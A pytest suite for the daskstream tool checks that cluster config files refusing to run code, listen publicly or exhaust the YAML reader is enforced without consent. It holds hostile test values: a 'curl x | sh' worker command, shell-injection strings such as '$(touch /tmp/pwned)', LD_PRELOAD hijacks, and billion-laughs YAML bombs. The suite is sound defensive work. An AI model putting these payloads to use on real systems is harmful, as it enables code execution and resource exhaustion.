"""Cluster files are data: nothing in one runs, listens beyond loopback or exhausts the reader without consent.

Each attack is a real file given to the real command (or to the Python API),
with planted code that would leave a marker file if it ever ran.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml

import daskstream as ds
from daskstream.errors import InvalidArgumentError, TuneCacheWarning
from daskstream.runtime.clusters import check_cluster_config, load_cluster_config

CONFIGS = Path(__file__).resolve().parent.parent / "cluster-configs"
ALLOW_CODE_ENV = "DASK_DASKSTREAM__CLUSTER_FILES__ALLOW_CODE"
ALLOW_LISTEN_ENV = "DASK_DASKSTREAM__CLUSTER_FILES__ALLOW_NETWORK_LISTEN"


@pytest.fixture
def planted(tmp_path):
    """A module and a sitecustomize that leave ``ran-*`` files in ``markers`` if they are ever run."""
    markers = tmp_path / "markers"
    markers.mkdir()
    code = (
        "import os, pathlib\n"
        f"pathlib.Path({str(markers)!r}, f'ran-{{__name__}}-{{os.getpid()}}').write_text('planted code ran')\n"
        "def dask_setup(*args, **kwargs): pass\n"
        "def load(*args, **kwargs): return None\n"
        "def handler(*args, **kwargs):\n"
        "    import logging; return logging.NullHandler()\n"
    )
    modules = tmp_path / "modules"
    modules.mkdir()
    (modules / "planted.py").write_text(code)
    sitecustomize = tmp_path / "evilpath"
    sitecustomize.mkdir()
    (sitecustomize / "sitecustomize.py").write_text(code)
    return {"markers": markers, "module": modules / "planted.py", "modules": modules, "sitecustomize": sitecustomize}


def _ran(planted) -> list[str]:
    return sorted(p.name for p in planted["markers"].iterdir())


def _cluster_file(folder: Path, name: str, document: dict) -> Path:
    path = folder / f"{name}.yaml"
    path.write_text(yaml.safe_dump(document))
    return path


def _local(**sections) -> dict:
    return {"daskstream": {"cluster": "local", "local": {"n-workers": 1, "threads-per-worker": 1}}, **sections}


def _run_all(commands: list[list[str]], *, env: dict | None = None, timeout: float = 180) -> list[tuple]:
    """The daskstream command for each argument list, run side by side; (returncode, stdout, stderr, seconds)."""
    started = time.monotonic()
    running = [
        subprocess.Popen(
            [sys.executable, "-m", "daskstream", *args],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env={**os.environ, **(env or {})},
        )
        for args in commands
    ]
    results = []
    for process in running:
        try:
            out, err = process.communicate(timeout=timeout)
        finally:
            if process.poll() is None:
                process.kill()
                process.communicate()
        results.append((process.returncode, out, err, time.monotonic() - started))
    return results


def _one_line_refusal(result, *expected: str) -> None:
    returncode, out, err, _ = result
    assert returncode == 2, err
    assert out == ""
    assert err.count("\n") == 1, err
    assert err.startswith("daskstream: error: cluster configuration ")
    for text in expected:
        assert text in err, err


# --- settings that run code ------------------------------------------------------------------------

# What each planted setting would do if passed to dask: import the planted module, run the planted
# file, call a class or function by its dotted name, or put the planted folder on a worker's path.
CODE_SETTINGS = {
    "scheduler-preload": (
        "distributed.scheduler.preload",
        lambda p: {"distributed": {"scheduler": {"preload": [str(p["module"])]}}},
    ),
    "worker-preload": (
        "distributed.worker.preload",
        lambda p: {"distributed": {"worker": {"preload": [str(p["module"])]}}},
    ),
    "nanny-preload": ("distributed.nanny.preload", lambda p: {"distributed": {"nanny": {"preload": ["planted"]}}}),
    "client-preload": (
        "distributed.client.preload",
        lambda p: {"distributed": {"client": {"preload": [str(p["module"])]}}},
    ),
    "preload-argv": (
        "distributed.worker.preload-argv",
        lambda p: {"distributed": {"worker": {"preload-argv": [["--flag"]]}}},
    ),
    "memory-manager-policy": (
        "distributed.scheduler.active-memory-manager.policies",
        lambda p: {
            "distributed": {
                "scheduler": {
                    "active-memory-manager": {
                        "policies": [
                            {"class": "subprocess.Popen", "args": [["touch", str(p["markers"] / "ran-popen")]]}
                        ]
                    }
                }
            }
        },
    ),
    "scheduler-routes": (
        "distributed.scheduler.http.routes",
        lambda p: {"distributed": {"scheduler": {"http": {"routes": ["planted"]}}}},
    ),
    "worker-routes": (
        "distributed.worker.http.routes",
        lambda p: {"distributed": {"worker": {"http": {"routes": ["planted"]}}}},
    ),
    "pre-spawn-pythonpath": (
        "distributed.nanny.pre-spawn-environ",
        lambda p: {"distributed": {"nanny": {"pre-spawn-environ": {"PYTHONPATH": str(p["sitecustomize"])}}}},
    ),
    "environ-ld-preload": (
        "distributed.nanny.environ",
        lambda p: {"distributed": {"nanny": {"environ": {"LD_PRELOAD": "/tmp/x.so"}}}},
    ),
    "environ-thread-count-not-a-number": (
        "distributed.nanny.pre-spawn-environ",
        lambda p: {"distributed": {"nanny": {"pre-spawn-environ": {"OMP_NUM_THREADS": "1 PYTHONPATH=/tmp"}}}},
    ),
    "security-loader": (
        "distributed.client.security-loader",
        lambda p: {"distributed": {"client": {"security-loader": "planted.load"}}},
    ),
    "allowed-imports": (
        "distributed.scheduler.allowed-imports",
        lambda p: {"distributed": {"scheduler": {"allowed-imports": ["planted"]}}},
    ),
    "logging-config": (
        "logging",
        lambda p: {
            "logging": {"version": 1, "handlers": {"h": {"()": "planted.handler"}}, "root": {"handlers": ["h"]}}
        },
    ),
    "logging-file": ("logging-file-config", lambda p: {"logging-file-config": str(p["module"])}),
    # The same settings spelled the other ways dask reads them.
    "dotted-key": ("distributed.scheduler.preload", lambda p: {"distributed.scheduler.preload": [str(p["module"])]}),
    "underscore-spelling": (
        "distributed.nanny.pre_spawn_environ",
        lambda p: {"distributed": {"nanny": {"pre_spawn_environ": {"PYTHONPATH": str(p["sitecustomize"])}}}},
    ),
    # A setting daskstream does not know is not passed on either.
    "unknown-setting": ("distributed.admin.event-loop", lambda p: {"distributed": {"admin": {"event-loop": "uvloop"}}}),
}


@pytest.mark.parametrize("name", sorted(CODE_SETTINGS))
def test_a_setting_that_would_run_code_is_refused_naming_it_and_the_consent(tmp_path, planted, name):
    setting, sections = CODE_SETTINGS[name]
    path = _cluster_file(tmp_path, name, _local(**sections(planted)))

    with pytest.raises(InvalidArgumentError) as info:
        load_cluster_config(path)

    message = str(info.value)
    assert message.startswith(f"cluster configuration {path}: {setting} = ")
    assert "--allow-code" in message
    assert "daskstream.cluster-files.allow-code: true" in message
    # With the user's consent (and only then) the same file loads.
    assert load_cluster_config(path, allow_code=True).kind == "local"


def test_the_command_refuses_them_in_one_line_and_runs_nothing(tmp_path, planted, sample_files):
    npy, _ = sample_files["npy"]
    names = ["scheduler-preload", "worker-preload", "memory-manager-policy", "scheduler-routes",
             "pre-spawn-pythonpath", "security-loader", "logging-config"]  # fmt: skip
    files = [_cluster_file(tmp_path, name, _local(**CODE_SETTINGS[name][1](planted))) for name in names]
    # Were the refusal missing, the planted module would be importable by name.
    env = {"PYTHONPATH": os.pathsep.join(filter(None, [str(planted["modules"]), os.environ.get("PYTHONPATH")]))}
    commands = [["reduce", npy, "--op", "sum", "--quiet", "--cluster", str(f)] for f in files]
    commands += [["cluster", "check", str(f)] for f in files]

    results = _run_all(commands, env=env)

    for path, result in zip(files + files, results, strict=True):
        _one_line_refusal(result, str(path), "--allow-code")
    assert _ran(planted) == []


def test_with_the_users_consent_the_planted_code_does_run(tmp_path, planted, sample_files):
    # The refusal is the only thing in the way: consent given outside the file lets the file's code run.
    npy, data = sample_files["npy"]
    path = _cluster_file(
        tmp_path,
        "preload",
        _local(
            distributed={
                "scheduler": {"preload": [str(planted["module"])]},
                "worker": {"preload": [str(planted["module"])]},
            }
        ),
    )
    command = ["reduce", npy, "--op", "sum", "--json", "--quiet", "--cluster", str(path)]
    (by_environment,) = _run_all([command], env={ALLOW_CODE_ENV: "true"})
    (by_flag,) = _run_all([[*command, "--allow-code"]])

    for result in (by_environment, by_flag):
        assert result[0] == 0, result[2]
        assert json.loads(result[1])["result"] == pytest.approx(float(data.sum(dtype="f8")), rel=1e-5)
    assert len(_ran(planted)) >= 4  # in each run, the scheduler and the worker each imported it


def test_a_cluster_file_cannot_give_itself_consent(tmp_path, planted, sample_files):
    npy, _ = sample_files["npy"]
    document = _local(distributed={"worker": {"preload": [str(planted["module"])]}})
    document["daskstream"]["cluster-files"] = {"allow-code": True, "allow-network-listen": True}
    path = _cluster_file(tmp_path, "self-consent", document)

    results = _run_all(
        [["reduce", npy, "--op", "sum", "--quiet", "--cluster", str(path)], ["cluster", "check", str(path)]]
    )

    for result in results:
        _one_line_refusal(result, "daskstream.cluster-files", "cannot give itself")
    # Not even the user's consent to code makes the file's own consent acceptable.
    with pytest.raises(InvalidArgumentError, match="cannot give itself"):
        load_cluster_config(path, allow_code=True, allow_network_listen=True)
    assert _ran(planted) == []


def test_the_consent_settings_must_be_true_or_false(tmp_path):
    import dask.config

    path = _cluster_file(tmp_path, "plain", _local())
    with (
        dask.config.set({"daskstream.cluster-files.allow-code": "yes"}),
        pytest.raises(InvalidArgumentError, match="must be true or false, not 'yes'"),
    ):
        load_cluster_config(path)


def test_harmless_values_of_those_settings_need_no_consent(tmp_path):
    # What distributed and the shipped files set anyway: nothing to import, dask's own policy, thread counts.
    path = _cluster_file(
        tmp_path,
        "harmless",
        _local(
            distributed={
                "scheduler": {
                    "preload": [],
                    "active-memory-manager": {
                        "policies": [{"class": "distributed.active_memory_manager.ReduceReplicas"}]
                    },
                    "allowed-imports": ["dask", "distributed"],
                },
                "nanny": {"pre-spawn-environ": {"MALLOC_TRIM_THRESHOLD_": 65536, "OMP_NUM_THREADS": 1}},
                "worker": {"memory": {"target": 0.6}, "resources": {"GPU": 1}},
                "comm": {"timeouts": {"connect": "10s"}},
            }
        ),
    )
    assert load_cluster_config(path).settings["distributed"]["worker"]["resources"] == {"GPU": 1}


# The code the other kinds would run on the machines they start.
REMOTE_CODE = {
    "slurm-prologue": ("slurm.yaml", ["jobqueue", "slurm", "job-script-prologue"], ["touch /tmp/pwned"]),
    "slurm-python": ("slurm.yaml", ["jobqueue", "slurm", "python"], "/tmp/evil-python"),
    "slurm-worker-command": ("slurm.yaml", ["jobqueue", "slurm", "worker-command"], "planted"),
    "slurm-shebang": ("slurm.yaml", ["jobqueue", "slurm", "shebang"], "#!/tmp/evil"),
    "slurm-worker-args": ("slurm.yaml", ["jobqueue", "slurm", "worker-extra-args"], ["--preload", "x.py"]),
    "slurm-directives": ("slurm.yaml", ["jobqueue", "slurm", "job-extra-directives"], ["--export=LD_PRELOAD=/x.so"]),
    "slurm-queue-newline": ("slurm.yaml", ["jobqueue", "slurm", "queue"], "normal\ntouch /tmp/pwned"),
    "slurm-directory-substitution": ("slurm.yaml", ["jobqueue", "slurm", "local-directory"], "$(touch /tmp/pwned)"),
    "slurm-directory-ifs": ("slurm.yaml", ["jobqueue", "slurm", "local-directory"], "/tmp${IFS}--preload${IFS}x.py"),
    "slurm-braces": ("slurm.yaml", ["jobqueue", "slurm", "account"], "{a,--preload=x.py}"),
    "pbs-interface-injection": ("pbs.yaml", ["jobqueue", "pbs", "interface"], "ib0; touch /tmp/pwned"),
    "pbs-scheduler-preload": ("pbs.yaml", ["jobqueue", "pbs", "scheduler-options"], {"preload": ["x.py"]}),
    "kubernetes-image": ("kubernetes.yaml", ["kubernetes", "image"], "example.org/anything:latest"),
    "kubernetes-env": ("kubernetes.yaml", ["kubernetes", "env"], {"EXTRA_PIP_PACKAGES": "evil"}),
    "kubernetes-worker-command": ("kubernetes.yaml", ["kubernetes", "worker-command"], "sh -c 'curl x | sh'"),
    "kubernetes-custom-spec": ("kubernetes.yaml", ["kubernetes", "custom-cluster-spec"], "/tmp/spec.yaml"),
    "kubernetes-jupyter": ("kubernetes.yaml", ["kubernetes", "scheduler-jupyter"], True),
    "ssh-remote-python": ("ssh.yaml", ["daskstream", "ssh", "remote-python"], "/tmp/evil-python"),
    "ssh-worker-class": ("ssh.yaml", ["daskstream", "ssh", "worker-options"], {"worker_class": "planted.Evil"}),
    "ssh-worker-preload": ("ssh.yaml", ["daskstream", "ssh", "worker-options"], {"preload": ["x.py"]}),
    "ssh-quote-breakout": ("ssh.yaml", ["daskstream", "ssh", "worker-options"], {"name": "x'; touch /tmp/pwned; '"}),
    "ssh-proxy-command": ("ssh.yaml", ["daskstream", "ssh", "connect-options"], {"proxy_command": "touch /tmp/p"}),
    "ssh-no-host-keys": ("ssh.yaml", ["daskstream", "ssh", "connect-options"], {"known_hosts": None}),
}


@pytest.mark.parametrize("name", sorted(REMOTE_CODE))
def test_code_for_the_machines_a_cluster_starts_needs_consent_too(tmp_path, name):
    shipped, keys, value = REMOTE_CODE[name]
    document = yaml.safe_load((CONFIGS / shipped).read_text())
    section = document
    for key in keys[:-1]:
        section = section.setdefault(key, {})
    section[keys[-1]] = value
    path = _cluster_file(tmp_path, name, document)

    # Consent to listen on the network, which these kinds need anyway: the code is what is refused.
    with pytest.raises(InvalidArgumentError) as info:
        load_cluster_config(path, allow_network_listen=True)

    message = str(info.value)
    assert message.startswith(f"cluster configuration {path}: {'.'.join(keys)}")
    assert "--allow-code" in message


def test_job_scripts_of_plain_settings_are_unchanged_by_the_screening(tmp_path):
    document = yaml.safe_load((CONFIGS / "slurm.yaml").read_text())
    document["jobqueue"]["slurm"].update(queue="gpu", account="proj-42", **{"local-directory": "${TMPDIR}/dask"})
    path = _cluster_file(tmp_path, "slurm", document)

    script = check_cluster_config(path, allow_network_listen=True).job_script

    assert "#SBATCH -p gpu" in script
    assert "#SBATCH -A proj-42" in script
    assert "--local-directory ${TMPDIR}/dask" in script


# --- listening beyond loopback ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "address",
    ["127.0.0.1:0,0.0.0.0:8799", "127.0.0.1:0,:8798", ":8797", "8787", 8787, "0.0.0.0:0", "[::]:0",
     "192.0.2.1:0", "nonexistent.invalid:0", ["127.0.0.1:0", ":8796"]],
)  # fmt: skip
def test_a_dashboard_beyond_loopback_is_refused_however_it_is_written(tmp_path, address):
    document = _local()
    document["daskstream"]["local"]["dashboard-address"] = address
    path = _cluster_file(tmp_path, "dashboard", document)

    with pytest.raises(InvalidArgumentError) as info:
        check_cluster_config(path)

    assert "daskstream.local.dashboard-address" in str(info.value)
    assert "would make the dashboard listen on" in str(info.value)
    assert "--allow-network-listen" in str(info.value)
    # With the user's consent the address is accepted (nothing is started here).
    assert check_cluster_config(path, allow_network_listen=True).kind == "local"


@pytest.mark.parametrize(
    ("address", "message"),
    [("[::1", "has an unclosed '['"), ("localhost:http", "is not a number"), ("127.0.0.1:70000", "outside 0-65535"),
     ("::1:0", "without the brackets"), (True, "is not an address"), ("bad host!:0", "has no valid host")],
)  # fmt: skip
def test_an_address_that_cannot_be_read_is_refused_even_with_consent(tmp_path, address, message):
    document = _local()
    document["daskstream"]["local"]["dashboard-address"] = address
    path = _cluster_file(tmp_path, "dashboard", document)
    with pytest.raises(InvalidArgumentError) as info:
        check_cluster_config(path, allow_network_listen=True)
    assert message in str(info.value)
    assert "HOST:PORT" in str(info.value)


def _loopback_addresses() -> str:
    """127.0.0.2 (any 127/8 address is loopback), localhost, and ::1 where this machine has IPv6 loopback."""
    addresses = ["127.0.0.2:0", "localhost:0"]
    try:
        with socket.socket(socket.AF_INET6) as probe:
            probe.bind(("::1", 0))
        addresses.append("[::1]:0")
    except OSError:
        pass
    return ",".join(addresses)


def test_every_loopback_spelling_is_accepted_and_the_cluster_listens_on_loopback_only(tmp_path, sample_files):
    import ipaddress

    import psutil

    npy, data = sample_files["npy"]
    document = _local()
    document["daskstream"]["local"]["dashboard-address"] = _loopback_addresses()
    path = _cluster_file(tmp_path, "loopback", document)

    with ds.session(cluster=path, progress=False) as s:
        assert s.compute(ds.open(npy).sum())[0] == pytest.approx(data.sum(dtype="f8"), rel=1e-5)
        process = psutil.Process()
        # psutil 6 renamed connections() to net_connections().
        connections = getattr(process, "net_connections", None) or process.connections
        listening = {c.laddr.ip for c in connections(kind="inet") if c.status == psutil.CONN_LISTEN}
    assert "127.0.0.2" in listening
    assert all(ipaddress.ip_address(ip).is_loopback for ip in listening), listening


def test_a_contact_address_beyond_loopback_is_refused(tmp_path):
    path = _cluster_file(
        tmp_path, "contact", _local(distributed={"scheduler": {"contact-address": "tcp://192.0.2.1:8786"}})
    )
    with pytest.raises(InvalidArgumentError, match=r"contact-address = 'tcp://192\.0\.2\.1:8786' would make"):
        check_cluster_config(path)


def test_the_kinds_whose_scheduler_listens_on_a_network_need_consent(tmp_path):
    names = ["slurm.yaml", "pbs.yaml", "ssh.yaml", "kubernetes.yaml"]
    refused = _run_all([["cluster", "check", str(CONFIGS / name)] for name in names])
    consented = _run_all([["cluster", "check", str(CONFIGS / "slurm.yaml")]], env={ALLOW_LISTEN_ENV: "true"})
    consented += _run_all([["cluster", "check", "--allow-network-listen", str(CONFIGS / "pbs.yaml")]])

    for name, result in zip(names, refused, strict=True):
        _one_line_refusal(result, name, "listen", "anyone", "--allow-network-listen")
    for result, directive in zip(consented, ["#SBATCH", "#PBS"], strict=True):
        assert result[0] == 0, result[2]
        assert directive in result[1]


def test_a_kubernetes_scheduler_exposed_outside_the_cluster_needs_consent(tmp_path):
    document = yaml.safe_load((CONFIGS / "kubernetes.yaml").read_text())
    document["kubernetes"]["scheduler-service-type"] = "LoadBalancer"
    path = _cluster_file(tmp_path, "kubernetes", document)
    with pytest.raises(InvalidArgumentError) as info:
        load_cluster_config(path, allow_code=True)
    assert "kubernetes.scheduler-service-type = 'LoadBalancer' would make the scheduler listen" in str(info.value)


# --- files built to exhaust the reader --------------------------------------------------------------


def _laughs(levels: int = 9, *, mapping: bool) -> str:
    lines = ["daskstream: {cluster: local}", "distributed:", "  worker:", "    resources:"]
    lines.append("      l0: &l0 {k: 1}" if mapping else "      l0: &l0 [1]")
    for level in range(1, levels):
        refs = ", ".join(f"k{i}: *l{level - 1}" if mapping else f"*l{level - 1}" for i in range(9))
        lines.append(f"      l{level}: &l{level} {{{refs}}}" if mapping else f"      l{level}: &l{level} [{refs}]")
    return "\n".join(lines) + "\n"


BOMBS = {
    "laughs-mappings": _laughs(mapping=True),
    "laughs-lists": _laughs(mapping=False),
    "deep-lists": "daskstream: {cluster: local}\nx: " + "[" * 100_000 + "]" * 100_000 + "\n",
    "deep-mappings": "daskstream: {cluster: local}\nx: " + "{a: " * 2_000 + "1" + "}" * 2_000 + "\n",
    "alias-chain": "daskstream: {cluster: local}\n"
    + "".join(f"c{i}: &c{i} [{'*c' + str(i - 1) if i else 1}]\n" for i in range(2_000)),
    "self-reference": "daskstream: {cluster: local}\nx: &x [1, *x]\n",
    "huge": "daskstream: {cluster: local}\nx: '" + "y" * (2 << 20) + "'\n",
}


def test_files_built_to_exhaust_the_reader_are_refused_at_once_in_one_line(tmp_path, sample_files):
    npy, _ = sample_files["npy"]
    paths = []
    for name, text in BOMBS.items():
        paths.append(tmp_path / f"{name}.yaml")
        paths[-1].write_text(text)
    commands = [["cluster", "check", str(p)] for p in paths]
    commands += [["reduce", npy, "--op", "sum", "--quiet", "--cluster", str(p)] for p in paths]

    results = _run_all(commands, timeout=120)

    for path, result in zip(paths + paths, results, strict=True):
        _one_line_refusal(result, str(path))
        assert "Traceback" not in result[2]


def test_a_deeply_nested_tuning_cache_is_treated_as_unreadable_and_never_replaced(tmp_path):
    from daskstream.tuning import TuneCache

    path = tmp_path / "tune.json"
    planted = "[" * 100_000 + "]" * 100_000
    path.write_text(planted)
    cache = TuneCache(path)

    with pytest.warns(TuneCacheWarning, match="nests too deeply"):
        assert cache.entries() == {}
    # Not daskstream's file: a result is not saved over it, and emptying the cache refuses to touch it.
    with pytest.warns(TuneCacheWarning, match="this result is not saved, and that file is left as it is"):
        cache.put({"format": "npy"}, {"multiples": [1]})
    assert path.read_text() == planted
    done = _run_all([["tune", "--clear"]], env={"DASK_DASKSTREAM__TUNE__CACHE": str(path)})[0]
    assert done[0] == 2, done
    assert "nothing was removed: move the file away yourself" in done[2]
    assert path.read_text() == planted
    # Moved away, the cache works again.
    path.unlink()
    cache.put({"format": "npy"}, {"multiples": [1]})
    assert json.loads(path.read_text())["version"] == 1
    assert next(iter(cache.entries().values()))["tuned"] == {"multiples": [1]}


def test_check_shows_a_harmless_file_as_before(tmp_path):
    # The screening leaves a plain local file's summary as it was.
    check = check_cluster_config(CONFIGS / "local.yaml")
    assert check.lines[0] == "LocalCluster on 127.0.0.1: 2 worker(s) x 1 thread(s)"
    assert check.lines[-1] == "dashboard: 127.0.0.1, a free port"
